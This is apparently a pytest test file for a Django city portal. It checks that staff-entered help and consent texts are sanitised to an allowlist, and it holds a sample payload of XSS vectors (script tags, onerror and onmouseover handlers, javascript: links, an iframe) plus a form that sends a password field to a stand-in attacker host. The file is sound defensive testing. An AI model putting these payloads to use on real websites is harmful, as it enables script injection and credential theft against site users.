"""Staff-entered HTML (help texts, consent texts) is reduced to an allowlist on public pages."""

import copy

import pytest
from django.contrib.auth.password_validation import password_validators_help_text_html
from django.utils.safestring import SafeString

from munich_portal.core.html import staff_html
from tests.factories import UserFactory
from tests.participation.factories import ConsentTextFactory, EventFactory

# What a careless or hijacked staff account might paste into a help or consent text.
PAYLOAD = (
    "<p>Bitte <strong>genau</strong> lesen.</p>"
    '<script>alert("script")</script>'
    "<img src=x onerror=\"alert('img')\">"
    "<a href=\"javascript:alert('js')\">Klick</a>"
    '<a href="https://evil.example/login" target="_blank" rel="opener">Anmelden</a>'
    "<style>body{display:none}</style>"
    '<iframe src="https://evil.example/frame"></iframe>'
    '<form action="https://evil.example/steal"><input name="pw"></form>'
    '<em onmouseover="alert(1)">Hinweis</em>'
)
PHISHING_LINK = '<a href="https://evil.example/login" rel="noopener noreferrer">Anmelden</a>'


def assert_neutralised(html: str) -> None:
    for forbidden in (
        "alert(",
        "onerror",
        "onmouseover",
        "javascript:",
        "<iframe",
        "evil.example/frame",
        "evil.example/steal",
        'name="pw"',
        "display:none",
        'target="_blank"',
        'rel="opener"',
    ):
        assert forbidden not in html, forbidden
    # The harmless markup stays; the external link stays a link but cannot reach its opener.
    assert "<p>Bitte <strong>genau</strong> lesen.</p>" in html
    assert "<em>Hinweis</em>" in html
    assert PHISHING_LINK in html


def test_the_allowlist_keeps_harmless_markup_and_drops_the_rest():
    html = staff_html(PAYLOAD)
    assert isinstance(html, SafeString)
    assert_neutralised(html)
    assert "<script" not in html and "<style" not in html and "<img" not in html
    assert "<form" not in html and "<input" not in html


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ('<a href="/kontakt/">Kontakt</a>', '<a href="/kontakt/" rel="noopener noreferrer">'),
        ('<a href="mailto:a@muenchen.de">Mail</a>', 'href="mailto:a@muenchen.de"'),
        ('<a href="http://insecure.example/">x</a>', '<a rel="noopener noreferrer">x</a>'),
        ('<a href=" JaVaScRiPt:alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
        ("<ul><li>eins</li></ul><ol><li>zwei</li></ol>a<br>b", "<ul><li>eins</li></ul>"),
    ],
)
def test_links_keep_only_https_mailto_and_relative_addresses(given, expected):
    assert expected in staff_html(given)


def test_plain_help_texts_from_the_code_keep_working():
    assert staff_html("For example 17.05.2026") == "For example 17.05.2026"
    assert staff_html("Tom & Jerry <3") == "Tom &amp; Jerry &lt;3"
    assert staff_html(None) == ""
    # Django's own HTML help text (the password rules) is a list: it stays a list.
    rules = password_validators_help_text_html()
    assert "<li>" in rules and staff_html(rules) == rules


@pytest.mark.django_db
def test_a_help_text_of_an_online_request_field_is_neutralised_on_the_form(client):
    from tests.online_requests.factories import SPEC, published_service

    spec = copy.deepcopy(SPEC)
    spec["pages"][0]["fields"][0]["help"] = (PAYLOAD, PAYLOAD)
    service = published_service(spec=spec)
    user = UserFactory()
    client.force_login(user)
    client.post(f"/dienstleistungen/{service.slug}/antrag/")
    step = f"/dienstleistungen/{service.slug}/antrag/schritt/1/"

    page = client.get(step)
    assert page.status_code == 200
    assert_neutralised(page.content.decode())
    # Also on the page sent back with errors.
    page = client.post(step, {"full_name": ""})
    assert page.status_code in (200, 400)
    assert "error-summary" in page.content.decode()
    assert_neutralised(page.content.decode())


@pytest.mark.django_db
@pytest.mark.parametrize("prefix", ["", "/en"])
def test_a_consent_text_is_neutralised_on_the_registration_form(client, prefix):
    ConsentTextFactory(version="2026-x", text_de=PAYLOAD, text_en=PAYLOAD)
    EventFactory(slug="werkstatt-xss")
    url = f"{prefix}/veranstaltungen/werkstatt-xss/"

    page = client.get(url)
    assert page.status_code == 200
    assert_neutralised(page.content.decode())
    # Logged in (an uncached page) and sent back with errors.
    client.force_login(UserFactory())
    page = client.post(url, {"first_name": "", "consent": ""})
    assert "error-summary" in page.content.decode()
    assert_neutralised(page.content.decode())
